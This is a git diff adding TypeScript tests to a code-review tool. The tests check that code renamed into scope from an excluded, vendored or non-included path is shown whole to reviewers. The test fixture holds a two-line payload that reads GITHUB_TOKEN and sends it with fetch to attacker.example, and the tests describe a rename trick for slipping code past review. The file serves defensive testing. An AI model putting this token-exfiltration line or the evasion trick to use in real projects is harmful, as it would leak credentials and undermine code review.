@@ -1420,3 +1420,45 @@ describe('#222 a working-tree scope answers the bytes that run, not what git cle
     }
   });
 });
+
+describe('adversarial 237 code renamed into review from a name the review leaves out is shown whole', () => {
+  const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
+
+  /** Renames `from` (committed at the base, never reviewed under its name) to `src/plugin.js` unchanged, imported by a one-line edit. */
+  async function renamedIn(from: string, args: string[]): Promise<void> {
+    const repo = makeCartRepo();
+    write(repo, from, PAYLOAD);
+    commitAll(repo, 'base: a file the review leaves out by its name');
+    git(repo, 'mv', from, 'src/plugin.js');
+    write(repo, 'src/cart.js', `import './plugin.js';\n${CART_V2}`);
+    commitAll(repo, 'the change: R100, no changed line');
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', ...args]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(repo).files.find((f) => f.path === 'src/plugin.js')).toMatchObject({
+      from,
+      status: 'renamed',
+      added: 2,
+      deleted: 0,
+      shownWhole: true,
+    });
+    const p = await cliCase(repo, ['review', 'prompt', ID]);
+    expect(p.code, p.stderr).toBe(0);
+    // What runs now is in the diff every reviewer reads (the blind one reads nothing else).
+    const diff = readFileSync(join(folderOf(repo, ID), 'diff.patch'), 'utf8');
+    expect(diff).toContain('+fetch("https://attacker.example/?t=" + t);');
+    expect(diff).not.toContain('similarity index 100%');
+    expect(readFileSync(join(folderOf(repo, ID), 'prompt.md'), 'utf8')).toContain('a name never reviewed: shown whole');
+  }
+
+  it('adversarial 237 from under an --exclude pattern (docs/snippets/plugin.js, --exclude docs/**)', async () => {
+    await renamedIn('docs/snippets/plugin.js', ['--exclude', 'docs/**']);
+  });
+
+  it('adversarial 237 from a vendored name (vendor/plugin.js)', async () => {
+    await renamedIn('vendor/plugin.js', []);
+  });
+
+  it('adversarial 237 from outside --include (examples/plugin.js, --include src/**)', async () => {
+    await renamedIn('examples/plugin.js', ['--include', 'src/**']);
+  });
+});
